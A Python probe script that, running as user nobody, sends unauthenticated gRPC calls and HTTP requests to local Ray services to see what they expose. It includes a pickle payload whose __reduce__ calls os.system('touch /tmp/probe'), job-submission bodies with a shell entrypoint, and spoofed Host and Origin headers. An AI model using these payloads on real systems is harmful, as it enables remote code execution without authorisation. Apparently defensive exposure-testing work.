"""Try sockets without any secret, as a user without rights: `probe.py PORT …` prints {port: [[what, answer], …]}."""

import http.client
import importlib
import json
import os
import pickle
import pkgutil
import socket
import sys

import grpc
from ray.core import generated
from ray.serve.generated import serve_pb2

NOBODY = 65534
PATHS = """
/ /metrics /stats /healthz /-/healthz /-/routes /docs /digits /digits/predict /nodes /logical/actors /events /log_proxy
/api/version /api/jobs/ /api/serve/applications/ /api/cluster_status /api/v0/tasks /api/v0/logs /api/authentication_mode
/worker/traceback /timezone /get_or_create_runtime_env /api/local_raylet_healthz /api/gcs_healthz /api/health
/api/deployments/ /api/flow_runs/filter /api/admin/settings"""
HEADERS = [{}, {"Host": "evil.example.org"}, {"Origin": "http://evil.example.org"}]


def services():
    """Return every method that a server of Ray may have: /package.Service/Method."""
    names = [module.name for module in pkgutil.iter_modules(generated.__path__) if module.name.endswith("_pb2")]
    files = [importlib.import_module(f"ray.core.generated.{name}").DESCRIPTOR for name in names] + [
        serve_pb2.DESCRIPTOR
    ]
    found = [service for file in files for service in file.services_by_name.values()]
    methods = [f"/{service.full_name}/{method.name}" for service in found for method in service.methods]
    return [
        *methods,
        "/grpc.health.v1.Health/Check",
        "/ray.rpc.ObjectManagerService/Push",
        "/ray.rpc.ObjectManagerService/Pull",
    ]


def ask_http(port, method, path, headers):
    """Return [status, beginning of the answer], or None where it is no HTTP."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
    body = json.dumps({"entrypoint": "touch /tmp/probe", "rows": []}) if method != "GET" else None
    try:
        connection.request(method, path, body, {"Content-Type": "application/json", **headers})
        response = connection.getresponse()
        return [response.status, response.read(200).decode("latin-1")]
    except (OSError, http.client.HTTPException):
        return None
    finally:
        connection.close()


def ask_grpc(port, methods):
    """Return the code of each method that a gRPC server has; {} where there is none."""
    answers = {}
    with grpc.insecure_channel(f"127.0.0.1:{port}", options=[("grpc.enable_http_proxy", 0)]) as channel:
        for method in methods:
            try:
                channel.unary_unary(method)(b"", timeout=20)
                answers[method] = "OK"
            except grpc.RpcError as error:
                answers[method] = error.code().name
                if answers[method] == "UNAVAILABLE":
                    break
    return answers


def send_raw(port):
    """Send a pickle that would make a file, and noise; what unpickled it would have run it."""

    class Touch:
        def __reduce__(self):
            return os.system, ("touch /tmp/probe",)

    for data in (pickle.dumps(Touch()), b"\0" * 64, b"\r\n\r\n"):
        with socket.create_connection(("127.0.0.1", port), timeout=20) as one:
            one.sendall(data)


def probe(port, methods):
    """Return what a port answers: [[name, answer], …]; None where nobody listens any more."""
    found = []
    try:
        send_raw(port)
    except ConnectionRefusedError:
        return None
    codes = ask_grpc(port, methods)
    found += [[method, code] for method, code in codes.items()]
    if ask_http(port, "GET", "/", {}):
        asked = [
            (method, path, more) for path in PATHS.split() for method in ("GET", "POST", "PUT") for more in HEADERS
        ]
        for method, path, more in asked:
            found.append([f"{method} {path} {' '.join(more.values())}".strip(), ask_http(port, method, path, more)])
    return found


if __name__ == "__main__":
    methods = services()
    if os.getuid() == 0:
        os.setgroups([])
        os.setresgid(NOBODY, NOBODY, NOBODY)
        os.setresuid(NOBODY, NOBODY, NOBODY)
    print(json.dumps({port: probe(int(port), methods) for port in sys.argv[1:]}))
